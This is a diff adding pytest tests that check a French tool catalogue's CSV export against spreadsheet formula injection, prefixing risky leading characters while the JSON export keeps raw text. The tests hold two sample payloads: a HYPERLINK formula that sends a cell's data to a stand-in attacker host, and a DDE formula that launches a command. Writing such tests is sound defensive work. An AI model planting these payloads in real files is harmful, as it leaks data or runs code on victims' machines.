@@ -109,6 +109,53 @@ def offers(catalogue):
     return [*live, mapped, changed]
 
 
+def _exported(client, offer) -> tuple[dict, dict]:
+    """The offer's CSV row and JSON service."""
+    offer_id = f"reperes--{offer.pk}"
+    row = next(row for row in _csv_services(client) if row["id"] == offer_id)
+    service = next(service for service in _json_services(client) if service["id"] == offer_id)
+    return row, service
+
+
+# What an editor (or someone who got an editor's account) could type to run code or leak
+# data on the machine of whoever opens the CSV in a spreadsheet.
+HYPERLINK = '=HYPERLINK("https://attaquant.example/?d="&A2;"Voir la fiche")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_cells_a_spreadsheet_would_run_are_text_in_the_csv(client, catalogue):
+    offer = ToolPageFactory(parent=catalogue, title=HYPERLINK, summary=SUM)
+    row, service = _exported(client, offer)
+    assert row["nom"] == "'" + HYPERLINK
+    assert row["description"] == "'" + SUM
+    # The JSON is read by programs, not spreadsheets: it keeps what the editor wrote.
+    assert (service["nom"], service["description"]) == (HYPERLINK, SUM)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_trigger_is_prefixed(client, catalogue, start):
+    summary = f"{start}1+2 : une description piégée"
+    offer = ToolPageFactory(parent=catalogue, summary=summary)
+    row, service = _exported(client, offer)
+    assert row["description"] == "'" + summary
+    assert service["description"] == summary
+
+
+def test_ordinary_text_round_trips_and_phones_get_the_prefix_too(client, catalogue):
+    provider = ActorFactory(contact_phone="+33 1 23 45 67 89")
+    summary = 'Un outil "libre", simple = efficace ; 1+1, @partout.\nSur deux lignes.'
+    offer = ToolPageFactory(
+        parent=catalogue, title="Outil - édition 2026", summary=summary, provider=provider
+    )
+    row, service = _exported(client, offer)
+    # Triggers inside the text, quotes, commas and line breaks come back as written.
+    assert (row["nom"], row["description"]) == ("Outil - édition 2026", summary)
+    # A leading "+" is prefixed whatever follows it (OWASP: no guessing which "+" is
+    # harmless); the JSON keeps the number as it is.
+    assert row["telephone"] == "'+33 1 23 45 67 89"
+    assert service["telephone"] == "+33 1 23 45 67 89"
+
+
 @pytest.mark.parametrize(
     "read", [_json_services, lambda client: map(_from_csv, _csv_services(client))]
 )
